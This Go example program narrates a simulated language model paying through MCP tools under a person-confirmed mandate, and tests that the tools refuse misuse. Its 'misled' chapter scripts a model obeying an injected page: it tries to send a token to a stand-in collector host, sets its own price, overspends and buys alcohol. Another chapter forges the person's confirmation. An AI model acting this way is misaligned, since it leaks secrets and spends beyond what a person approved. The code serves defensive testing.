package main

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/actprotocol/act-go/examples/internal/stage"
	"github.com/actprotocol/act-go/examples/mcp/acttools"
	"github.com/actprotocol/act-go/protocol"
	"github.com/actprotocol/act-go/protocol/money"
)

// A session is the story while it is told.
type session struct {
	*street
	model *model
	bill  acttools.TaskBill
}

// tell runs the whole story and fails when anything is not as it should be.
func tell(ctx context.Context, n *stage.Narrator) (err error) {
	s, err := openStreet(ctx, n)
	defer func() { err = errors.Join(err, s.Close(context.WithoutCancel(ctx))) }()
	if err != nil {
		return err
	}
	t := &session{street: s}
	for _, chapter := range []func(context.Context) error{
		t.meet, t.agree, t.buy, t.fetch, t.misled, t.large, t.showBooks,
	} {
		if err := chapter(ctx); err != nil {
			return err
		}
	}
	return nil
}

func (t *session) meet(ctx context.Context) error {
	t.Line("A language model buys by seven tools, inside what a person has confirmed (MCP).")
	t.Line("Model and person are played by this program; everything else is real.")
	server, err := t.server()
	if err != nil {
		return err
	}
	if t.model, err = connect(ctx, server, t.Narrator, nil); err != nil {
		return err
	}
	t.Chapter("Nothing without a mandate")
	offered, err := t.model.session.ListTools(ctx, nil)
	if err != nil {
		return err
	}
	var names []string
	for _, tool := range offered.Tools {
		names = append(names, tool.Name)
	}
	slices.Sort(names)
	t.Says("tools", "model", "here is %s", strings.Join(names, ", "))
	return t.refused(ctx, "find", acttools.FindInput{Need: "a large latte"}, protocol.CodePolicyRefused)
}

// refused calls a tool that must refuse, and must not move anything.
func (t *session) refused(ctx context.Context, name string, arguments any, code protocol.Code) error {
	return t.Unmoved(ctx, func(ctx context.Context) error {
		return t.Expect("agent", t.model.call(ctx, name, arguments, new(struct{})), code)
	})
}

// agree: the model makes drafts, and only the person makes a mandate of one.
func (t *session) agree(ctx context.Context) error {
	t.Chapter("The person decides, outside of the model")
	draft := acttools.IntentInput{
		Words: "Coffee for the office today, and what people say about coffee.", MaxTotal: "900", ValidHours: 4,
		Shops: []string{"coffee bar", "data desk"}, Never: []string{"alcohol"},
	}
	if err := t.refused(ctx, "describe_intent", draft, protocol.CodePolicyRefused); err != nil {
		return err
	}
	t.Notes("tools", "the person has said never to ask them for more than %s", ceiling)
	draft.MaxTotal = "300"
	if err := t.refused(ctx, "describe_intent", draft, protocol.CodeConfirmationFailed); err != nil {
		return err
	}
	if err := t.answerForThePerson(ctx, draft); err != nil {
		return err
	}
	draft.MaxTotal, draft.MaxSingle = "200", "100"
	t.model.person = func(shown string) bool { return strings.Contains(shown, "At most in total: 200 CNY") }
	defer func() { t.model.person = nil }()
	var agreed acttools.IntentOutput
	if err := t.model.call(ctx, "describe_intent", draft, &agreed); err != nil {
		return err
	}
	t.Says("bank", "tools", "a mandate (ADD-IAC-ISS-10); the model is told its name and not its text")
	var limits acttools.LimitsOutput
	if err := t.model.call(ctx, "show_limits", acttools.Nothing{}, &limits); err != nil {
		return err
	}
	if len(limits.Mandates) != 1 || limits.Mandates[0].Mandate != agreed.Mandate || limits.Mandates[0].Left != "200.00" {
		return errors.New("the limits are not what was confirmed")
	}
	l := limits.Mandates[0]
	t.Says("tools", "model", "%s left of %s yuan, at most %s at once, at %s, never %s",
		l.Left, l.Total, l.Single, strings.Join(l.Merchants, " and "), strings.Join(l.Never, ", "))
	return nil
}

// answerForThePerson brings the person's answer along with the question: what a
// client would send whose model can fill in more than arguments.
func (t *session) answerForThePerson(ctx context.Context, draft acttools.IntentInput) error {
	forged := &mcp.CallToolParams{
		Name: "describe_intent", Arguments: draft, RequestState: "yes",
		InputResponses: mcp.InputResponseMap{"person": &mcp.ElicitResult{Action: "accept", Content: map[string]any{"confirm": true}}},
	}
	return t.Expect("tools", t.model.send(ctx, forged, new(struct{})), protocol.CodeStateConflict)
}

// look finds something by a part of its name.
func (t *session) look(ctx context.Context, need, name string) (acttools.Found, error) {
	var found acttools.FindOutput
	if err := t.model.call(ctx, "find", acttools.FindInput{Need: need}, &found); err != nil {
		return acttools.Found{}, err
	}
	for _, f := range found.Found {
		if strings.Contains(f.Name.Text, name) {
			t.Says("tools", "model", "%s: “%s”, %s yuan, at the %s", f.Item, f.Name.Text, f.Price, f.Shop)
			return f, nil
		}
	}
	return acttools.Found{}, fmt.Errorf("%s was not found", name)
}

// cart has something held.
func (t *session) cart(ctx context.Context, item string, quantity int64) (out acttools.CartOutput, err error) {
	err = t.model.call(ctx, "confirm_cart", acttools.CartInput{Lines: []acttools.CartLine{{Item: item, Quantity: quantity}}}, &out)
	if err == nil {
		t.Says("tools", "model", "%s: %s yuan, held until %s (CID-CART-CFM-04)", out.Order, out.Amount, out.Expires)
	}
	return out, err
}

// pay pays an order.
func (t *session) pay(ctx context.Context, order string) error {
	var out acttools.PayOutput
	if err := t.model.call(ctx, "pay", acttools.PayInput{Order: order}, &out); err != nil {
		return err
	}
	if len(out.Paid) == 0 {
		t.Says("tools", "model", "it was paid before; here it is again: “%s”", out.Goods.Text)
		return nil
	}
	t.Says("tools", "model", "paid %s yuan to the %s; it says “%s”", out.Paid[0].Amount, out.Paid[0].Shop, out.Goods.Text)
	return nil
}

func (t *session) buy(ctx context.Context) error {
	t.Chapter("A cart")
	latte, err := t.look(ctx, "a large latte", "Latte")
	if err != nil {
		return err
	}
	order, err := t.cart(ctx, latte.Item, 2)
	if err != nil {
		return err
	}
	if err := t.pay(ctx, order.Order); err != nil {
		return err
	}
	t.Notes("model", "has forgotten that it paid")
	if err := t.pay(ctx, order.Order); err != nil {
		return err
	}
	survey, err := t.look(ctx, "a printed coffee survey", "printed")
	if err != nil {
		return err
	}
	order, err = t.cart(ctx, survey.Item, 1)
	if err != nil {
		return err
	}
	t.Notes("tools", "the data desk's agent card was read first: both know the same way to pay (CID-PCA-NEG-02, -03)")
	return t.pay(ctx, order.Order)
}

func (t *session) fetch(ctx context.Context) error {
	t.Chapter("A page that costs money")
	page, err := t.look(ctx, "a coffee survey page", "page")
	if err != nil {
		return err
	}
	var out acttools.FetchOutput
	if err := t.model.call(ctx, "fetch_paid_resource", acttools.FetchInput{URL: page.DetailURL}, &out); err != nil {
		return err
	}
	if len(out.Paid) != 1 || out.Body.Hidden != 1 {
		return errors.New("one page, paid once, with one hidden character")
	}
	t.Says("tools", "model", "402, paid %s yuan, 200 (PSD-PAY-A402-05, -06); what the shop wrote is marked as untrusted:", out.Paid[0].Amount)
	t.Quote(out.Body.Text)
	return nil
}

// misled: the model does what the page told it. The tools do not know that, and
// need not.
func (t *session) misled(ctx context.Context) error {
	t.Chapter("A model that is misled")
	for _, attempt := range []struct {
		url  string
		code protocol.Code
	}{
		{t.magic.Base + "/bonus", protocol.CodeMerchantNotAllowed},
		{"https://collector.example/?token=mine", protocol.CodeMerchantNotAllowed},
	} {
		if err := t.refused(ctx, "fetch_paid_resource", acttools.FetchInput{URL: attempt.url}, attempt.code); err != nil {
			return err
		}
	}
	latte, err := t.look(ctx, "a large latte", "Latte")
	if err != nil {
		return err
	}
	many := acttools.CartInput{Lines: []acttools.CartLine{{Item: latte.Item, Quantity: 30}}}
	if err := t.refused(ctx, "confirm_cart", many, protocol.CodeSingleLimitExceeded); err != nil {
		return err
	}
	cheap := map[string]any{"lines": []map[string]any{{"item": latte.Item, "quantity": 1, "price": "0.01"}}}
	if err := t.refused(ctx, "confirm_cart", cheap, protocol.CodeFieldUnknown); err != nil {
		return err
	}
	t.Notes("tools", "prices come from the merchant's signed confirmation; no tool takes one (CID-CART-CFM-05)")
	return t.refused(ctx, "find", acttools.FindInput{Need: "whisky", Categories: []string{"alcohol"}, Shops: []string{"coffee bar"}}, protocol.CodeCategoryNotAllowed)
}

// large: the mandate allows it, and the person's own rule is to be asked.
func (t *session) large(ctx context.Context) error {
	t.Chapter("A large payment")
	beans, err := t.look(ctx, "coffee beans", "beans")
	if err != nil {
		return err
	}
	order, err := t.cart(ctx, beans.Item, 1)
	if err != nil {
		return err
	}
	if err := t.refused(ctx, "pay", acttools.PayInput{Order: order.Order}, protocol.CodeConfirmationFailed); err != nil {
		return err
	}
	t.Notes("principal", "has changed their mind, and told the model")
	t.model.person = func(shown string) bool { return strings.Contains(shown, "95.00 CNY") }
	defer func() { t.model.person = nil }()
	return t.pay(ctx, order.Order)
}

// showBooks compares what the model is told with the processor's ledger.
func (t *session) showBooks(ctx context.Context) error {
	t.Chapter("The bill, and the processor's ledger")
	var out acttools.BillOutput
	if err := t.model.call(ctx, "show_bill", acttools.BillInput{}, &out); err != nil {
		return err
	}
	if len(out.Bills) != 1 {
		return errors.New("there is one mandate")
	}
	t.bill = out.Bills[0]
	var rows [][]string
	for _, e := range t.bill.Entries {
		rows = append(rows, []string{e.Shop, e.What.Text, string(e.State), e.Amount})
	}
	rows = append(rows, []string{"spent", "", "", t.bill.Spent}, []string{"left of " + t.bill.Total, "", "", t.bill.Left})
	t.Table([]string{"shop", "what, in its words", "state", "yuan"}, rows)
	if err := t.keptSecret(); err != nil {
		return err
	}
	t.Notes("tools", "none of their %d answers held the mandate, a payment token or a proof", len(t.model.read))
	spent, err := money.Parse(t.bill.Spent, stage.CNY)
	if err != nil {
		return err
	}
	return t.Audit(ctx, nil, map[string]money.Amount{t.person.ID(): spent})
}

// keptSecret looks for what could be spent in all that the model has read.
func (t *session) keptSecret() error {
	secrets := []string{t.token, t.buyer.Wire.LastProof()}
	for _, m := range t.buyer.Agent.Wallet().Mandates() {
		secrets = append(secrets, m.Raw())
	}
	for _, secret := range secrets {
		for _, read := range t.model.read {
			if secret == "" || strings.Contains(read, secret) {
				return errors.New("the model has read what could be spent")
			}
		}
	}
	return nil
}
